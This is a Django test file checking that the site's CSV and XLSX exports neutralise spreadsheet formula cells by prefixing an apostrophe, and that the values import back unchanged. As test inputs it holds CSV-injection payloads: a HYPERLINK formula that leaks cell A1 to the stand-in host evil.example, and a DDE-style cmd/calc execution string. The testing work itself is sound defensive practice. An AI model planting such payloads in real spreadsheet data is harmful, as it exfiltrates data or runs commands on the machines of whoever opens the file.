"""Spreadsheet exports never hand a formula to a spreadsheet (issue 12, item 11).

Every export writes a cell starting with =, +, -, @, a tab or a carriage return with a leading `'`
(roles/datafile/csvfiles.py): /data/roles.csv, the admin's catalogue CSV, and the admin's subscriber
export as CSV and XLSX. The catalogue's own CSV reads back to the original values.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.urls import reverse

from roles.choices import SubscriberStatus
from roles.datafile import catalogue
from roles.datafile.csvfiles import read_cell, safe_cell
from roles.editorial.setup import MODERATORS
from roles.models import RolePage, Subscriber

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+2",
    "-cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("value", [*HOSTILE, "'=1+2", "''-x", "'plain", "普通文字", "", "a=b"])
def test_a_cell_is_neutralised_and_reads_back_as_it_was(value):
    cell = safe_cell(value)
    assert not cell[:1] or cell[0] not in "=+-@\t\r"
    assert read_cell(cell) == value
    if value[:1] and value[0] in "=+-@\t\r":
        assert cell == "'" + value


def test_non_text_cells_pass_unchanged():
    assert safe_cell(-5) == -5 and safe_cell(None) is None


@pytest.fixture
def hostile_role():
    """A live role whose texts start like formulas (as an editor, or an import, could write)."""
    role = RolePage.objects.get(slug="prompt-engineer")
    RolePage.objects.filter(pk=role.pk).update(
        title="=1+2",
        english_name="@SUM(1+1)*cmd|' /C calc'!A0",
        synonyms="-cmd\n+1",
        definition='=HYPERLINK("http://evil.example/","点我")',
        skills_text="\t=1+2",
        company_types_text="\r=1+2",
    )
    return RolePage.objects.get(pk=role.pk)


def rows(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_no_formula(table):
    for row in table:
        for cell in row:
            assert not cell[:1] or cell[0] not in "=+-@\t\r", (cell, row)


def test_open_data_csv_quotes_formula_cells(client, hostile_role):
    table = rows(client.get("/data/roles.csv").content.decode("utf-8"))
    assert_no_formula(table)
    header = table[0]
    [row] = [r for r in table if r[header.index("slug")] == "prompt-engineer"]
    cell = dict(zip(header, row, strict=True))
    assert cell["name"] == "'=1+2"
    assert cell["english_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cell["synonyms"] == "'-cmd; +1"
    assert cell["definition"] == '\'=HYPERLINK("http://evil.example/","点我")'


@pytest.fixture
def moderator_client(client):
    user = get_user_model().objects.create_user("moderator", password="pw")
    user.groups.add(Group.objects.get(name=MODERATORS))
    client.force_login(user)
    return client


def test_catalogue_csv_quotes_formula_cells_and_reads_them_back(moderator_client, hostile_role):
    response = moderator_client.get(reverse("roles_catalogue_export", args=["csv"]))
    text = response.content.decode("utf-8")
    table = rows(text)
    assert_no_formula(table)
    header = table[0]
    [row] = [r for r in table if r[header.index("slug")] == "prompt-engineer"]
    cell = dict(zip(header, row, strict=True))
    assert cell["title"] == "'=1+2"
    assert cell["definition"] == '\'=HYPERLINK("http://evil.example/","点我")'
    assert cell["skills_text"] == "'\t=1+2"

    # Imported again, every cell is what it was. (The import strips a cell's surrounding
    # whitespace, as it always did, so a leading tab or CR is not kept.)
    exported = catalogue.export_catalogue()
    data = catalogue.read_upload("roles.csv", response.content)
    [role] = [r for c in data["categories"] for r in c["roles"] if r["slug"] == "prompt-engineer"]
    assert role["title"] == "=1+2"
    assert role["english_name"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert role["definition"] == '=HYPERLINK("http://evil.example/","点我")'
    assert role["synonyms"] == ["-cmd", "+1"]
    assert role["skills_text"] == role["company_types_text"] == "=1+2"
    [original] = [
        r for c in exported["categories"] for r in c["roles"] if r["slug"] == "prompt-engineer"
    ]
    original["skills_text"] = original["company_types_text"] = "=1+2"
    assert data == exported

    # And byte for byte: export → import → export.
    RolePage.objects.filter(pk=hostile_role.pk).update(skills_text="=1+2", company_types_text="-1")
    text = catalogue.dumps_csv(catalogue.export_catalogue())
    assert catalogue.dumps_csv(catalogue.read_upload("roles.csv", text.encode("utf-8"))) == text


def test_an_apostrophe_the_author_wrote_survives_the_round_trip(hostile_role):
    RolePage.objects.filter(pk=hostile_role.pk).update(
        definition="'=已经带引号", skills_text="=1", company_types_text="'-1"
    )
    exported = catalogue.export_catalogue()
    text = catalogue.dumps_csv(exported)
    assert "''=已经带引号" in text
    assert catalogue.read_upload("roles.csv", text.encode("utf-8")) == exported


SUBSCRIBERS = ["=1+2@formula.example", "-cmd@formula.example", "@SUM(1)@formula.example"]


@pytest.fixture
def staff_client(client):
    client.force_login(get_user_model().objects.create_superuser("staff", password="pw"))
    for email in SUBSCRIBERS:
        Subscriber.objects.create(email=email, status=SubscriberStatus.CONFIRMED)
    Subscriber.objects.create(email="\t=tab@formula.example", status=SubscriberStatus.PENDING)
    return client


def test_subscriber_csv_export_quotes_formula_cells(staff_client):
    response = staff_client.get("/admin/subscriber/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8")
    table = rows(text)
    assert_no_formula(table)
    emails = {row[0] for row in table[1:]}
    assert {"'" + email for email in SUBSCRIBERS} <= emails
    assert "'\t=tab@formula.example" in emails


def test_subscriber_xlsx_export_quotes_formula_cells(staff_client):
    response = staff_client.get("/admin/subscriber/", {"export": "xlsx"})
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    texts = [value for value in values if isinstance(value, str)]
    assert not [value for value in texts if value[0] in "=+-@\t\r"]
    assert {"'" + email for email in SUBSCRIBERS} <= set(texts)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
